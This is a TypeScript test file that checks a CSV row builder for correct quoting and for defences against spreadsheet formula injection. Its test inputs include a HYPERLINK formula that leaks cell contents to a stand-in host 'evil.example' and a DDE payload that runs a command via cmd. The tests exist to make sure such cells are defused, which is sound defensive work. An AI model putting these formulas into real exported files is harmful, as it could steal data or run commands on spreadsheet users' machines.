import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvRow } from '#app/domain/shared/csv.ts';

/** Reads one row as a spreadsheet does (RFC 4180). */
function cellsOf(row: string): string[] {
  const cells: string[] = [];
  let rest = row;
  while (rest !== '\r\n') {
    const [whole, quoted, plain = ''] = /^,?(?:"((?:[^"]|"")*)"|([^",\r\n]*))/.exec(rest) ?? [''];
    if (!whole && rest !== row) throw new Error(`Unreadable: ${rest}`);
    cells.push(quoted?.replaceAll('""', '"') ?? plain);
    rest = rest.slice(whole.length);
  }
  return cells;
}

describe('a row', () => {
  test('keeps commas, quotes and lines of a cell inside it', () => {
    expect(csvRow(['a, b', 'say "hi"', 'two\nlines', null, 7])).toBe(
      '"a, b","say ""hi""","two\nlines","",7\r\n',
    );
  });

  test('is parsed as what was written, whatever people write', () => {
    const cell = fc.string({ unit: 'binary' }).map((text) => `x${text}`);
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        expect(cellsOf(csvRow(cells))).toEqual(cells);
      }),
    );
  });
});

describe('what a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '@SUM(A1:A9)',
    '+91 98765 43210',
    '-2+3',
    "=cmd|'/C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '\tword',
    '"=1+1',
  ])('%j is not run', (cell) => {
    const [shown = ''] = cellsOf(csvRow([cell]));
    expect(shown).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
    expect(shown.endsWith(cell)).toBe(true);
  });

  test.each(['Priya', 'प्रिया', 'a = b', '7 May', "O'Brien", ''])('%j stays as it is', (cell) => {
    expect(cellsOf(csvRow([cell]))).toEqual([cell]);
  });

  test('never begins a cell, whatever visitors write', () => {
    const unit = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      ' ',
      '"',
      ',',
      "'",
      'a',
      '＝',
      '\u200b',
    );
    fc.assert(
      fc.property(fc.array(fc.string({ unit }), { minLength: 1, maxLength: 5 }), (cells) => {
        const read = cellsOf(csvRow(cells));
        expect(read).toHaveLength(cells.length);
        for (const cell of read) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝]/u);
      }),
    );
  });
});
